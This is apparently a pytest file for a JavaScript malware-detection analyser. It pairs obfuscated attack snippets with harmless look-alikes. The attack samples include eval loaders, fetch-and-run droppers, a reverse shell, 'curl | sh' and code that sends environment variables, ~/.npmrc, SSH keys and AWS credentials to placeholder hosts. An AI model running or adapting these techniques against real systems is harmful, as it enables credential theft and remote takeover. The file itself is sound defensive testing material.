"""Attacks by their forms, inert, and ordinary code that looks alike: each attack is told, its twin is not.

Sinks are at `*.invalid` or documentation addresses, and what is run is `echo marker`. Nothing here is ever executed.
"""

import base64
import zlib

import pytest

from pratique.analysis.facts import Capability, FileFacts, Taint
from tests.analysis.languages.javascript.reading import facts

C, P, N, W = Capability.CODE, Capability.PROCESS, Capability.NETWORK, Capability.FILE_WRITE
T = Taint
RUN = "require('child_process').exec('echo marker')"
B64 = base64.b64encode(RUN.encode()).decode()
HEX = RUN.encode().hex()
ZLIB = base64.b64encode(zlib.compress(RUN.encode())).decode()
CODES = ",".join(str(ord(letter)) for letter in RUN)
XOR = ",".join(str(ord(letter) ^ 42) for letter in RUN)
LONG = base64.b64encode((RUN + ";").encode() * 8).decode()

Wanted = tuple[str, Capability, str | None, str | None, frozenset[Taint]]


def use(capability: Capability, api: str | None = None, argument: str | None = None) -> Wanted:
    """A use that must be told."""
    return ("use", capability, api, argument, frozenset())


def flow(sink: Capability, *taints: Taint) -> Wanted:
    """A flow that must be told."""
    return ("flow", sink, None, None, frozenset(taints))


EXEC = use(P, "child_process.exec")
ATTACKS = [
    pytest.param("const m='child_'+'process'; require(m)['ex'+'ec']('echo marker')", [EXEC], id="concat"),
    pytest.param(
        "const a=['process','exec','child_']; require(a[2]+a[0])[a[1]]('echo marker')", [EXEC], id="array"
    ),
    pytest.param(f"eval(String.fromCharCode({CODES}))", [EXEC, flow(C, T.DECODED)], id="charcodes"),
    pytest.param(
        f"eval(String.fromCharCode.apply(null,[{CODES}]))", [EXEC, flow(C, T.DECODED)], id="charcodes_apply"
    ),
    pytest.param(
        f"eval(String.fromCharCode(...[{CODES}]))", [EXEC, flow(C, T.DECODED)], id="charcodes_spread"
    ),
    pytest.param(
        f"eval([{CODES}].map(c=>String.fromCharCode(c)).join(''))", [EXEC, flow(C, T.DECODED)], id="map"
    ),
    pytest.param(
        f"eval([{XOR}].map(c=>String.fromCharCode(c^42)).join(''))", [EXEC, flow(C, T.DECODED)], id="xor"
    ),
    pytest.param(
        f"var a=[{XOR}],s='';for(var i=0;i<a.length;i++){{s+=String.fromCharCode(a[i]^42);}} eval(s)",
        [flow(C, T.COMPUTED)],
        id="xor_loop",
    ),
    pytest.param(f"eval(Buffer.from('{B64}','base64').toString())", [EXEC, flow(C, T.DECODED)], id="b64"),
    pytest.param(
        f"const {{from:f}}=Buffer; eval(f('{B64}','base64').toString('utf8'))",
        [EXEC, flow(C, T.DECODED)],
        id="b64_destr",
    ),
    pytest.param(f"eval(atob('{B64}'))", [EXEC, flow(C, T.DECODED)], id="atob"),
    pytest.param(f"eval(Buffer.from('{HEX}','hex')+'')", [EXEC, flow(C, T.DECODED)], id="hex"),
    pytest.param(f'eval([..."{RUN[::-1]}"].reverse().join(""))', [EXEC, flow(C, T.DECODED)], id="rev_spread"),
    pytest.param(f'eval("{RUN[::-1]}".split("").reduce((a,c)=>c+a,""))', [flow(C)], id="rev_reduce"),
    pytest.param(
        f"eval(require('zlib').inflateSync(Buffer.from('{ZLIB}','base64')).toString())",
        [EXEC, flow(C, T.DECODED)],
        id="zlib",
    ),
    pytest.param(
        f"eval(Buffer.from('{B64[::-1]}'.split('').reverse().join(''),'base64').toString())",
        [EXEC, flow(C, T.DECODED)],
        id="rev_b64",
    ),
    pytest.param(
        "const a='child_', b='process'; require(`${a}${b}`).exec(`echo ${'marker'}`)", [EXEC], id="tmpl"
    ),
    pytest.param("const r=require, c=r('child_process'), e=c.exec; e('echo marker')", [EXEC], id="alias"),
    pytest.param("const {exec:run}=require('child_process'); run('echo marker')", [EXEC], id="destr"),
    pytest.param("const e=require('child_process').exec.bind(null); e('echo marker')", [EXEC], id="bind"),
    pytest.param("let n; n='child_process'; const m=require(n); m.exec('echo marker')", [EXEC], id="reqvar"),
    pytest.param(f"(0,eval)(atob('{B64}'))", [EXEC, flow(C, T.DECODED)], id="indirect"),
    pytest.param(f"const g=eval; g(atob('{B64}'))", [EXEC, flow(C, T.DECODED)], id="geval"),
    pytest.param(f"new Function(atob('{B64}'))()", [EXEC, flow(C, T.DECODED)], id="Fn"),
    pytest.param(f"Function('require', atob('{B64}'))(require)", [EXEC, flow(C, T.DECODED)], id="Fnreq"),
    pytest.param(f"(()=>{{}}).constructor(atob('{B64}'))()", [EXEC, flow(C, T.DECODED)], id="ctor"),
    pytest.param(
        f"''['constructor']['constructor'](atob('{B64}'))()", [EXEC, flow(C, T.DECODED)], id="ctor2"
    ),
    pytest.param(f"[]['filter']['constructor'](atob('{B64}'))()", [EXEC, flow(C, T.DECODED)], id="ctor3"),
    pytest.param(
        f"Object.getPrototypeOf(async function(){{}}).constructor(atob('{B64}'))()",
        [EXEC, flow(C, T.DECODED)],
        id="asyncctor",
    ),
    pytest.param(f"Reflect.construct(Function,[atob('{B64}')])()", [EXEC, flow(C, T.DECODED)], id="reflect"),
    pytest.param(
        f"const M=module.constructor; const m=new M(); m._compile(atob('{B64}'),'')",
        [EXEC, flow(C, T.DECODED)],
        id="compile",
    ),
    pytest.param(
        f"module._compile(Buffer.from('{B64}','base64').toString(),'x')",
        [EXEC, flow(C, T.DECODED)],
        id="compile2",
    ),
    pytest.param("module.constructor._load('child_process').exec('echo marker')", [EXEC], id="ctorload"),
    pytest.param("require('module')._load('child_'+'process').exec('echo marker')", [EXEC], id="Mload"),
    pytest.param(
        f"require('vm').runInNewContext(atob('{B64}'),{{require}})", [EXEC, flow(C, T.DECODED)], id="vm"
    ),
    pytest.param(
        f"const vm=require('node:vm'); const s=new vm.Script(atob('{B64}')); s.runInThisContext()",
        [EXEC, flow(C, T.DECODED)],
        id="vmscript",
    ),
    pytest.param(
        "const m=await import('node:child'+'_process'); m.exec('echo marker')", [EXEC], id="dynimport"
    ),
    pytest.param(f"import('data:text/javascript;base64,{B64}')", [use(C)], id="dynimport_data"),
    pytest.param("import('child_process').then(({exec})=>exec('echo marker'))", [EXEC], id="dynimport_then"),
    pytest.param(f"globalThis['ev'+'al'](atob('{B64}'))", [EXEC, flow(C, T.DECODED)], id="globalThis"),
    pytest.param(
        f"global[Buffer.from('ZXZhbA==','base64').toString()](atob('{B64}'))", [flow(C)], id="global_atob"
    ),
    pytest.param("process.mainModule.require('child_process').exec('echo marker')", [EXEC], id="mainModule"),
    pytest.param(
        "process['main'+'Module']['req'+'uire']('child_process')['exec']('echo marker')",
        [EXEC],
        id="mainModule2",
    ),
    pytest.param("require.main.require('child_process').exec('echo marker')", [EXEC], id="reqmain"),
    pytest.param(
        "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','echo marker']})",
        [use(P)],
        id="binding",
    ),
    pytest.param("process.getBuiltinModule('child_process').exec('echo marker')", [EXEC], id="builtin"),
    pytest.param(f"eval(Buffer.from([{CODES}]).toString())", [EXEC, flow(C, T.DECODED)], id="bufarr"),
    pytest.param(
        f"eval(new TextDecoder().decode(new Uint8Array([{CODES}])))", [EXEC, flow(C, T.DECODED)], id="u8"
    ),
    pytest.param(
        f"const {{Worker}}=require('worker_threads'); new Worker(atob('{B64}'),{{eval:true}})",
        [EXEC, flow(C, T.DECODED)],
        id="worker",
    ),
    pytest.param(
        "const cp=require('child_process'); cp[atob('ZXhlYw==')]('echo marker')", [use(P)], id="computed"
    ),
    pytest.param("const cp=require('child_process'); cp[k](c)", [use(P)], id="computed_unk"),
    pytest.param(
        "fetch('https://a.invalid/x').then(r=>r.text()).then(eval)", [flow(C, T.NETWORK)], id="fetcheval"
    ),
    pytest.param(
        "const r=await fetch('https://a.invalid/x'); const t=await r.text(); new Function(t)()",
        [flow(C, T.NETWORK)],
        id="fetchawait",
    ),
    pytest.param(
        "(async()=>{const r=await (await fetch('https://a.invalid/x')).json(); eval(r.code)})()",
        [flow(C, T.NETWORK)],
        id="fetchjson",
    ),
    pytest.param(
        "require('axios').get('https://a.invalid').then(res=>eval(res.data.cookie))",
        [flow(C, T.NETWORK)],
        id="axios",
    ),
    pytest.param(
        "require('axios').get('https://a.invalid').catch(err=>{new Function('require',err.response.data)(require)})",
        [flow(C, T.NETWORK)],
        id="axios_err",
    ),
    pytest.param(
        "require('https').get('https://a.invalid/x',res=>{let d='';res.on('data',c=>d+=c);res.on('end',()=>eval(d))})",
        [flow(C, T.NETWORK)],
        id="httpdata",
    ),
    pytest.param(
        "require('https').get('https://a.invalid/x',res=>{const d=[];res.on('data',c=>d.push(c));res.on('end',()=>{require('vm').runInThisContext(Buffer.concat(d).toString())})})",
        [flow(C, T.NETWORK)],
        id="httparr",
    ),
    pytest.param(
        "const https=require('https'),fs=require('fs'),cp=require('child_process');https.get('https://a.invalid/x',r=>{let b=[];r.on('data',c=>b.push(c));r.on('end',()=>{fs.writeFileSync('/tmp/mk.bin',Buffer.concat(b));fs.chmodSync('/tmp/mk.bin',0o755);cp.spawn('/tmp/mk.bin',{detached:true})})})",
        [flow(W, T.NETWORK), flow(P, T.NETWORK)],
        id="httpwrite",
    ),
    pytest.param(
        "const fs=require('fs'),{spawn}=require('child_process');const p=require('path').join(require('os').tmpdir(),'mk.exe');require('https').get('https://a.invalid/x',r=>{const w=fs.createWriteStream(p);r.pipe(w);w.on('finish',()=>spawn(p))})",
        [flow(W, T.NETWORK), flow(P, T.NETWORK)],
        id="pipe",
    ),
    pytest.param(
        "const {pipeline}=require('stream/promises');const fs=require('fs');const r=await fetch('https://a.invalid');await pipeline(r.body,fs.createWriteStream('/tmp/markr'));require('child_process').execFile('/tmp/markr')",
        [flow(W, T.NETWORK), flow(P, T.NETWORK)],
        id="pipeline",
    ),
    pytest.param(
        "const ex=require('util').promisify(require('child_process').exec);(async()=>{const {stdout}=await ex('whoami');await fetch('https://a.invalid',{method:'POST',body:stdout})})()",
        [flow(N, T.PROCESS)],
        id="promisified",
    ),
    pytest.param(
        "const o=require('child_process').execSync('id').toString();require('https').get('https://a.invalid/?o='+encodeURIComponent(o))",
        [flow(N, T.PROCESS)],
        id="execsend",
    ),
    pytest.param(
        "require('child_process').exec('id',(e,out)=>{const q=require('https').request({hostname:'a.invalid',method:'POST'});q.write(out);q.end()})",
        [flow(N, T.PROCESS)],
        id="execcb",
    ),
    pytest.param(
        "require('https').request({host:'a.invalid',method:'POST'}).end(JSON.stringify(process.env))",
        [flow(N, T.ENVIRONMENT)],
        id="envall",
    ),
    pytest.param(
        "fetch('https://a.invalid',{method:'POST',body:JSON.stringify({...process.env,h:require('os').hostname()})})",
        [flow(N, T.ENVIRONMENT, T.IDENTITY)],
        id="envspread",
    ),
    pytest.param(
        "const d=Object.keys(process.env).map(k=>k+'='+process.env[k]).join('&');fetch('https://a.invalid/?'+d)",
        [flow(N, T.ENVIRONMENT)],
        id="envkeys",
    ),
    pytest.param(
        "let d={};for(const k in process.env){d[k]=process.env[k]} require('axios').post('https://a.invalid',d)",
        [flow(N, T.ENVIRONMENT)],
        id="envloop",
    ),
    pytest.param(
        "const h=Buffer.from(require('os').hostname()).toString('hex');require('dns').lookup(h+'.x.a.invalid',()=>{})",
        [flow(N, T.IDENTITY)],
        id="dns",
    ),
    pytest.param(
        "const dns=require('dns');const os=require('os');dns.resolve4(`${os.userInfo().username}.a.b.invalid`,()=>{})",
        [flow(N, T.IDENTITY)],
        id="dns2",
    ),
    pytest.param(
        "const fs=require('fs'),os=require('os'),p=require('path');const t=fs.readFileSync(p.join(os.homedir(),'.npmrc'),'utf8');fetch('https://a.invalid/',{method:'POST',body:t})",
        [flow(N, T.SECRETS)],
        id="npmrc",
    ),
    pytest.param(
        "const fs=require('fs'),os=require('os'),p=require('path');for(const n of ['.npmrc','.ssh/id_rsa']){const t=fs.readFileSync(p.join(os.homedir(),n));fetch('https://a.invalid/',{method:'POST',body:t})}",
        [flow(N, T.SECRETS)],
        id="npmrcloop",
    ),
    pytest.param(
        "const fs=require('fs');const files=['.npmrc','.aws/credentials'].map(f=>require('os').homedir()+'/'+f);const data={};files.forEach(f=>{try{data[f]=fs.readFileSync(f,'utf8')}catch{}});require('axios').post('https://a.invalid',data)",
        [flow(N, T.SECRETS)],
        id="npmrcmap",
    ),
    pytest.param(
        "const cp=require('child_process');cp.execSync('npm version patch');cp.execSync('npm publish --access public')",
        [use(P, "child_process.execSync", "npm publish --access public")],
        id="publish",
    ),
    pytest.param(
        "const t=process.env.NPM_TOKEN||require('fs').readFileSync(require('os').homedir()+'/.npmrc');fetch('https://registry.example/-/whoami',{headers:{Authorization:`Bearer ${t}`}})",
        [flow(N, T.SECRETS)],
        id="token",
    ),
    pytest.param(
        "fetch('https://api.github.com/user/repos',{method:'POST',headers:{Authorization:'token '+process.env.GITHUB_TOKEN},body:JSON.stringify({name:'x'})})",
        [flow(N, T.SECRETS)],
        id="ghrepo",
    ),
    pytest.param(
        "require('fs').writeFileSync('.github/workflows/x.yml', 'on: push')",
        [use(W, "fs.writeFileSync", ".github/workflows/x.yml")],
        id="wf",
    ),
    pytest.param(
        "eval(require('fs').readFileSync(__dirname+'/a.txt','utf8'))", [flow(C, T.FILE)], id="datafile"
    ),
    pytest.param(
        "const fs=require('fs'),path=require('path');const d=fs.readFileSync(path.join(__dirname,'data.dat'));const s=Buffer.from(d.toString(),'base64').toString();new Function('require',s)(require)",
        [flow(C, T.FILE, T.DECODED)],
        id="datafile2",
    ),
    pytest.param(
        "const d=require('./data.json');require('vm').runInThisContext(d.x)", [flow(C, T.FILE)], id="datajson"
    ),
    pytest.param(
        "require('fs').readFile('./x.dat','utf8',(e,d)=>eval(d))", [flow(C, T.FILE)], id="datafile_cb"
    ),
    pytest.param(
        "const {readFile}=require('fs/promises');const c=await readFile(new URL('./x.txt',import.meta.url),'utf8');await import('data:text/javascript,'+encodeURIComponent(c))",
        [flow(C, T.FILE)],
        id="datafile_p",
    ),
    pytest.param(
        f"const c=require('crypto');const d=c.createDecipheriv('aes-256-cbc',Buffer.from(process.env.K),iv);let s=d.update('{LONG}','base64','utf8');s+=d.final('utf8');eval(s)",
        [flow(C, T.KEY_FROM_ENVIRONMENT)],
        id="decenv",
    ),
    pytest.param(
        f"const c=require('crypto');const k=c.createHash('md5').update(require('os').hostname()).digest();const d=c.createDecipheriv('aes-128-ecb',k,null);eval(d.update('{LONG}','hex','utf8')+d.final('utf8'))",
        [flow(C, T.KEY_FROM_ENVIRONMENT)],
        id="dechost",
    ),
    pytest.param(
        f"const c=require('crypto');const d=c.createDecipher('aes256',process.env.npm_package_description);let s=d.update('{HEX}','hex','utf8');s+=d.final('utf8');const m=new module.constructor();m.paths=module.paths;m._compile(s,'')",
        [flow(C, T.KEY_FROM_ENVIRONMENT)],
        id="decdesc",
    ),
    pytest.param(
        "const C=require('crypto-js');eval(C.AES.decrypt(x,require('os').hostname()).toString(C.enc.Utf8))",
        [flow(C, T.KEY_FROM_ENVIRONMENT)],
        id="deccjs",
    ),
    pytest.param(
        "const n=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);const c=new n.Socket();c.connect(4444,'198.51.100.7',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)})",
        [flow(P, T.NETWORK), flow(N, T.PROCESS)],
        id="revshell",
    ),
    pytest.param(
        "const s=require('net').connect(1,'198.51.100.7');s.on('data',d=>require('child_process').exec(d.toString(),(e,o)=>s.write(o)))",
        [flow(P, T.NETWORK), flow(N, T.PROCESS)],
        id="sockexec",
    ),
    pytest.param(
        "const W=require('ws');const w=new W('wss://a.invalid');w.on('message',m=>{require('child_process').exec(m,(e,o)=>w.send(o))})",
        [flow(P, T.NETWORK), flow(N, T.PROCESS)],
        id="wsexec",
    ),
    pytest.param(
        "const io=require('socket.io-client')('https://a.invalid');io.on('cmd',c=>{eval(c)})",
        [flow(C, T.NETWORK)],
        id="ioexec",
    ),
    pytest.param(
        "const E=require('events');const e=new E();e.on('x',c=>eval(c));require('https').get('https://a.invalid',r=>r.on('data',d=>e.emit('x',d.toString())))",
        [flow(C, T.NETWORK)],
        id="emitter",
    ),
    pytest.param(
        "const c=require('clipboardy');fetch('https://a.invalid',{method:'POST',body:c.readSync()})",
        [flow(N, T.CLIPBOARD)],
        id="clip",
    ),
    pytest.param(
        "const o=require('child_process').execSync('pbpaste').toString();fetch('https://a.invalid',{method:'POST',body:o})",
        [flow(N, T.CLIPBOARD)],
        id="clipcmd",
    ),
    pytest.param(
        "const s=require('fs').readFileSync(__filename,'utf8');const b=s.match(/[ \\t]+$/gm).join('').replace(/ /g,'0').replace(/\\t/g,'1');let o='';for(let i=0;i<b.length;i+=8)o+=String.fromCharCode(parseInt(b.slice(i,i+8),2));eval(o)",
        [flow(C)],
        id="ws_stego",
    ),
    pytest.param(
        f"require('child_process').spawn('node',['-e',Buffer.from('{B64}','base64').toString()],{{detached:true}})",
        [flow(P, T.DECODED), use(P, "child_process.exec")],
        id="spawnnodee",
    ),
    pytest.param(
        f"require('child_process').spawn(process.execPath,['-e',atob('{B64}')])",
        [flow(P, T.DECODED)],
        id="spawnexecpath",
    ),
    pytest.param(
        f"const fs=require('fs');const p=require('os').tmpdir()+'/m.js';fs.writeFileSync(p,atob('{B64}'));require(p)",
        [flow(C, T.DECODED)],
        id="writerequire",
    ),
    pytest.param(
        f"const fs=require('fs');fs.writeFileSync('/tmp/mark.js',atob('{B64}'));require('child_process').fork('/tmp/mark.js')",
        [flow(P, T.DECODED)],
        id="writefork",
    ),
    pytest.param(f"setTimeout(atob('{B64}'),1000)", [flow(C, T.DECODED)], id="settimeout"),
    pytest.param(f"setTimeout(eval,0,atob('{B64}'))", [flow(C, T.DECODED)], id="timer_eval"),
    pytest.param(
        "this['constructor']['constructor']('return process')()['mainModule']['require']('child_process').execSync('echo marker')",
        [use(P, "child_process.execSync")],
        id="chainreq",
    ),
    pytest.param("require('child_process').exec('curl -sL https://a.invalid/x | sh')", [use(N)], id="dl_cmd"),
    pytest.param(
        "const o='/tmp/'+Math.random();require('child_process').exec(`curl -s https://a.invalid/x -o ${o} && chmod +x ${o} && ${o}`)",
        [use(N)],
        id="dl_cmd_tmpl",
    ),
    pytest.param(
        "require('child_process').exec('powershell -enc '+Buffer.from('abc','utf16le').toString('base64'))",
        [use(P)],
        id="ps",
    ),
    pytest.param(
        "const o={hostname:'a.invalid',path:'/p',method:'POST'};const r=require('https').request(o,()=>{});r.write(require('os').userInfo().username);r.end()",
        [flow(N, T.IDENTITY)],
        id="opt_assign",
    ),
    pytest.param(
        "class D{constructor(){this.c=require('child_process')} run(x){this.c.exec(x)}} new D().run('echo marker')",
        [EXEC],
        id="classes",
    ),
    pytest.param(
        "const m={get x(){return require('child_process')}}; m.x.exec('echo marker')", [EXEC], id="getter"
    ),
    pytest.param("(1,require('child_process').exec)('echo marker')", [EXEC], id="seqcomma"),
    pytest.param("require?.('child_process')?.exec?.('echo marker')", [EXEC], id="optional"),
    pytest.param("require`child_process`.exec`echo marker`", [EXEC], id="tagged"),
    pytest.param(
        "const M=require('module');M.prototype.require.call(module,'child_process').exec('echo marker')",
        [EXEC],
        id="labels",
    ),
    pytest.param(
        "const o={a:'child_process',b:'exec'}; require(o.a)[o.b]('echo marker')", [EXEC], id="objmap"
    ),
    pytest.param(
        "const o={r:function(a,b){return a(b)},k:'child_process'}; o.r(require,o.k).exec('echo marker')",
        [EXEC],
        id="objfn",
    ),
    pytest.param(f"\\u0065val(atob('{B64}'))", [flow(C, T.DECODED)], id="unicode"),
]


def told(found: FileFacts, wanted: Wanted) -> bool:
    sort, capability, api, argument, taints = wanted
    if sort == "use":
        return any(
            item.capability is capability and api in {None, item.api} and argument in {None, item.argument}
            for item in found.uses
        )
    return any(item.sink is capability and taints <= set(item.taints) for item in found.flows)


@pytest.mark.parametrize(("source", "wanted"), ATTACKS)
def test_attacks_are_told(source: str, wanted: list[Wanted]) -> None:
    found = facts(source)

    assert [] == [item for item in wanted if not told(found, item)]


@pytest.mark.parametrize(
    "source",
    [
        "const a = 'child_' + 'process.md'; console.log(a)",
        "const names = ['exec', 'child_process']; module.exports = names[1]",
        "const text = String.fromCharCode(104, 105); element.title = text",
        "const text = Buffer.from(body, 'base64').toString(); res.end(text)",
        "const data = require('zlib').inflateSync(Buffer.from(x, 'base64')); parse(data)",
        "'abc'.split('').reverse().join('')",
        "module.exports = word => word.split('').reverse().join('')",
        "fetch('https://a.invalid/x').then(r => r.json()).then(render)",
        "require('https').get('https://a.invalid/x', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => done(JSON.parse(d))) })",
        "const {exec} = require('child_process'); exec('git rev-parse HEAD', (e, out) => console.log(out))",
        "const e = new (require('events'))(); e.on('x', c => console.log(c)); e.emit('x', 'eval')",
        "const config = JSON.parse(require('fs').readFileSync('./config.json', 'utf8')); start(config)",
        "const hash = require('crypto').createHash('md5').update(process.env.NAME).digest('hex'); log(hash)",
        "const d = require('crypto').createDecipheriv('aes-256-cbc', key, iv); module.exports = d.update(x) + d.final()",
        "new Worker(new URL('./worker.js', import.meta.url))",
        "const vm = require('vm'); vm.runInThisContext('1 + 1')",
        "const Base = this.constructor; module.exports = new Base()",
        "const f = Function.prototype; f()",
        "open('https://a.invalid/')",
        "const os = require('os'); console.log(os.hostname(), os.userInfo().username)",
        "const dns = require('dns'); dns.lookup('a.invalid', done)",
        "fetch(`https://a.invalid/${id}`, {headers: {'x-version': version}})",
    ],
)
def test_ordinary_twins_are_not(source: str) -> None:
    assert () == facts(source).flows
    assert () == facts(source).payloads
